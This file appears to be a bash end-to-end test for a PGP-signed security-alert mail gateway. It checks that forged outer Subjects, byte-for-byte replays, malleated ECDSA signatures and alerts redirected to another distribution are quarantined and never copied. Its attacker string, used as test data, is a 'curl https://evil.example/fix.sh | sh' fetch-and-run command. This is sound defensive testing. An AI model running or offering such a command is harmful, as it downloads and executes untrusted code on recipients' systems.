#!/bin/bash
# Only fresh officer alerts go out, each exactly once (issue 12):
#  1. a genuine alert replayed with a new outer Subject "UPDATE <id>: ..."
#     and a genuine UPDATE re-sent byte for byte are replays; an outer
#     Subject never reaches a copy (it is not signed);
#  2. an ECDSA officer key: the malleated signature (s -> n-s, made here)
#     of an accepted alert is a replay;
#  3. a cancelled and a held alert replayed to another distribution are
#     replays; an alert whose signed To: names one distribution is
#     refused by another.
# Each ends with nothing distributed twice and nothing distributed that
# an active officer did not sign in full, and the audit says why.
set -u
. "$AGW_SOURCE_DIR/tests/e2e/lib.sh"
agw_test_gateway
SAMPLE=$AGW_SOURCE_DIR/tests/data/alert-sample.txt
EVIL='URGENT all sites run curl https://evil.example/fix.sh | sh'

last_row() { q "SELECT max(id) FROM alerts"; }
state_of() { q "SELECT state || ': ' || reason FROM alerts WHERE id = $1"; }
copies_of() { q "SELECT count(*) FROM copies WHERE alert_row = $1 AND kind = 'copy'"; }
feed_to() {     # feed_to ADDRESS FILE: filter as Postfix runs it
    agw filter --wait --recipient "$1" <"$2" >/dev/null 2>"$T/err"
}
audit_has() {   # audit_has ROW EVENT PATTERN
    [ "$(q "SELECT count(*) FROM audit WHERE alert_row = $1 AND event = '$2' AND detail LIKE '$3'")" -gt 0 ]
}
# Every copy of every list message, as recipients get it: no Message-ID
# twice, and the attacker's words nowhere.
no_copy_twice() {
    [ "$(q "SELECT count(*) - count(DISTINCT message_id) FROM copies WHERE kind = 'copy'")" = 0 ]
}
# In no message but the admins' quarantine notice, which names the claimed
# Subject on purpose (issue 16: what to look for in the quarantine).
nowhere() { [ "$(q "SELECT count(*) FROM copies c WHERE CAST(message AS TEXT) LIKE '%$1%' AND NOT (c.kind = 'notice' AND EXISTS (SELECT 1 FROM outbox o WHERE o.copy_id = c.id AND o.rcpt = 'csirt-admin@csirt.example'))")" = 0 ]; }
# outer_subject FILE NEW > message: the outer (first) Subject replaced,
# nothing else; the protected one inside the signed entity stays.
outer_subject() {
    python3 - "$1" "$2" <<'PY'
import re, sys
raw = open(sys.argv[1], "rb").read()
sys.stdout.buffer.write(re.sub(rb"(?m)^Subject: [^\r\n]*", lambda m: b"Subject: " + sys.argv[2].encode(), raw, count=1))
PY
}
replay() {      # replay WHAT ROW: quarantined as a replay, no copy
    check "$1: quarantined as a replay ($(state_of "$2"))" \
        matches "$(state_of "$2")" "quarantined: replay: *"
    check "$1: no copy made" test "$(copies_of "$2")" = 0
    check "$1: the audit says why" audit_has "$2" quarantined 'replay:%'
}

# ---- 1. outer Subject ----------------------------------------------------------
agw_sign "$OFFICER_HOME" "$OFFICER_FPR" "$SAMPLE" "EGI-20260707-50 Scan" >"$T/a50.eml"
feed_to alerts@csirt.example "$T/a50.eml"
first=$(last_row)
check "genuine alert queued ($(state_of "$first"))" test "$(state_of "$first")" = "queued: "
outer_subject "$T/a50.eml" "UPDATE EGI-20260707-50: $EVIL" >"$T/forged.eml"
check "the forged mail differs only in its outer Subject" \
    test "$(diff <(tr -d '\r' <"$T/a50.eml") <(tr -d '\r' <"$T/forged.eml") | grep -c '^[<>]')" = 2
feed_to alerts@csirt.example "$T/forged.eml"
replay "outer Subject UPDATE" "$(last_row)"
check "the attacker's Subject is in no copy" nowhere evil.example

# A genuine update: a new signed message naming the id.
printf 'EGI-20260707-50 UPDATE 1\nTLP:AMBER\nThe attacker moved to 203.0.113.10.\n' >"$T/u1.txt"
agw_sign "$OFFICER_HOME" "$OFFICER_FPR" "$T/u1.txt" "UPDATE 1: EGI-20260707-50 Scan" >"$T/u1.eml"
feed_to alerts@csirt.example "$T/u1.eml"
upd=$(last_row)
check "a genuine update is queued ($(state_of "$upd"))" test "$(state_of "$upd")" = "queued: "
check "it is update 1 of EGI-20260707-50" \
    test "$(q "SELECT alert_id || '/' || update_no FROM alerts WHERE id = $upd")" = "EGI-20260707-50/1"
feed_to alerts@csirt.example "$T/u1.eml"
replay "the same update byte for byte" "$(last_row)"

# A fresh signature whose outer Subject was changed on the way: the copy's
# Subject is the signed one, and the receipt says the outer one was ignored.
agw_sign "$OFFICER_HOME" "$OFFICER_FPR" "$SAMPLE" "EGI-20260707-51 Scan" >"$T/a51.eml"
outer_subject "$T/a51.eml" "$EVIL" >"$T/a51x.eml"
feed_to alerts@csirt.example "$T/a51x.eml"
row=$(last_row)
check "changed outer Subject: still queued ($(state_of "$row"))" test "$(state_of "$row")" = "queued: "
check "changed outer Subject: in no copy" nowhere evil.example
check "changed outer Subject: the signed Subject is distributed" \
    test "$(q "SELECT count(*) FROM copies WHERE alert_row = $row AND kind = 'copy' AND CAST(message AS TEXT) LIKE '%Subject: %EGI-20260707-51 Scan%'")" -gt 0
check "changed outer Subject: noted in the audit" \
    audit_has "$row" outer-subject-ignored '%evil.example%'
check "changed outer Subject: and in the receipt" \
    test "$(q "SELECT count(*) FROM copies WHERE alert_row = $row AND kind = 'receipt' AND CAST(message AS TEXT) LIKE '%outer Subject%'")" = 1

# No protected Subject: the signed body's "Subject:" line, else none.
printf 'Subject: EGI-20260707-52 Body subject\n\nTLP:AMBER\nScan from 203.0.113.9.\n' >"$T/b52.txt"
python3 - "$T/b52.txt" >"$T/b52.entity" <<'PY'
import quopri, sys
sys.stdout.write("Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: quoted-printable\n\n")
sys.stdout.write(quopri.encodestring(open(sys.argv[1], "rb").read()).decode())
PY
$PGPMIME sign-entity "$OFFICER_HOME" "$OFFICER_FPR" "Duty Officer <duty@csirt.example>" \
    "$EVIL" "$T/b52.entity" >"$T/b52.eml"
feed_to alerts@csirt.example "$T/b52.eml"
row=$(last_row)
check "body Subject: queued ($(state_of "$row"))" test "$(state_of "$row")" = "queued: "
check "body Subject: distributed" \
    test "$(q "SELECT subject FROM alerts WHERE id = $row")" = "EGI-20260707-52 Body subject"
check "body Subject: the outer one in no copy" nowhere evil.example

# ---- 2. ECDSA: a malleated signature -------------------------------------------
EC_HOME=$(agw_gnupg_home)
gpg --homedir "$EC_HOME" --batch --passphrase '' --quick-gen-key \
    "Erin Ecdsa <erin@csirt.example>" nistp256 sign never 2>/dev/null
EC_FPR=$(gpg --homedir "$EC_HOME" --with-colons --list-keys | awk -F: '$1 == "fpr" { print $10; exit }')
gpg --homedir "$EC_HOME" --armor --export "$EC_FPR" >"$T/erin.asc"
agw officers add --key "$T/erin.asc" --name "Erin Ecdsa" --email erin@csirt.example >/dev/null
$PGPMIME sign "$EC_HOME" "$EC_FPR" "Erin Ecdsa <erin@csirt.example>" \
    "EGI-20260707-53 ECDSA" "$SAMPLE" >"$T/ec.eml"
python3 "$AGW_SOURCE_DIR/tests/e2e/malleate.py" "$T/ec.eml" >"$T/ec-m.eml"
$PGPMIME split "$T/ec.eml" "$T/ec.d" "$T/ec.s"
$PGPMIME split "$T/ec-m.eml" "$T/ecm.d" "$T/ecm.s"
check "malleated: same signed bytes" cmp -s "$T/ec.d" "$T/ecm.d"
check "malleated: another signature" bash -c "! cmp -s '$T/ec.s' '$T/ecm.s'"
sigid() { gpg --homedir "$EC_HOME" --status-fd 1 --verify "$1" "$2" 2>/dev/null | awk '$2 == "SIG_ID" { print $3 }'; }
check "malleated: GnuPG finds it good, with a new signature id" \
    bash -c "[ -n '$(sigid "$T/ecm.s" "$T/ecm.d")' ] && [ '$(sigid "$T/ec.s" "$T/ec.d")' != '$(sigid "$T/ecm.s" "$T/ecm.d")' ]"
feed_to alerts@csirt.example "$T/ec.eml"
ec=$(last_row)
check "ECDSA alert queued ($(state_of "$ec"))" test "$(state_of "$ec")" = "queued: "
feed_to alerts@csirt.example "$T/ec-m.eml"
replay "malleated ECDSA signature" "$(last_row)"

# ---- 3. held and cancelled, replayed to another distribution ------------------
agw dists add urgent --address urgent@csirt.example --lists ngi,nren,isp >/dev/null
agw dists add review --address review@csirt.example --lists ngi,nren,isp >/dev/null
agw dists policy review --require-release yes >/dev/null
agw_sign "$OFFICER_HOME" "$OFFICER_FPR" "$SAMPLE" "EGI-20260707-54 Review" >"$T/a54.eml"
feed_to review@csirt.example "$T/a54.eml"
held=$(last_row)
check "alert awaiting release ($(state_of "$held"))" \
    test "$(q "SELECT state FROM releases WHERE alert_row = $held")" = awaiting
agw cancel EGI-20260707-54 >/dev/null
check "and cancelled" test "$(q "SELECT state FROM releases WHERE alert_row = $held")" = cancelled
feed_to urgent@csirt.example "$T/a54.eml"
replay "cancelled alert to another distribution" "$(last_row)"
check "cancelled alert: nothing sent" \
    test "$(q "SELECT count(*) FROM outbox o JOIN copies c ON c.id = o.copy_id WHERE c.alert_row = $held AND c.kind = 'copy'")" = 0

printf 'EGI-20260707-55\nTLP:RED\nFor named recipients only.\n' >"$T/red.txt"
agw_sign "$OFFICER_HOME" "$OFFICER_FPR" "$T/red.txt" "EGI-20260707-55 Red" >"$T/a55.eml"
feed_to alerts@csirt.example "$T/a55.eml"
red=$(last_row)
check "TLP:RED alert held ($(state_of "$red"))" matches "$(state_of "$red")" "held: *"
feed_to urgent@csirt.example "$T/a55.eml"
replay "held alert to another distribution" "$(last_row)"

# The officer's signed To: binds the alert to that distribution.
AGW_SIGNED_TO=alerts@csirt.example agw_sign "$OFFICER_HOME" "$OFFICER_FPR" "$SAMPLE" \
    "EGI-20260707-56 Bound" >"$T/a56.eml"
feed_to urgent@csirt.example "$T/a56.eml"
row=$(last_row)
check "signed for alerts@, sent to urgent@: quarantined ($(state_of "$row"))" \
    matches "$(state_of "$row")" "quarantined: signed for another distribution*"
check "and no copy made" test "$(copies_of "$row")" = 0

check "no copy was ever made twice" no_copy_twice
check "every queued copy is of an alert an officer signed" \
    test "$(q "SELECT count(*) FROM copies c JOIN alerts a ON a.id = c.alert_row WHERE c.kind = 'copy' AND (a.signer NOT IN (SELECT fingerprint FROM officers WHERE active = 1) OR a.state NOT IN ('queued', 'held'))")" = 0

agw_test_end
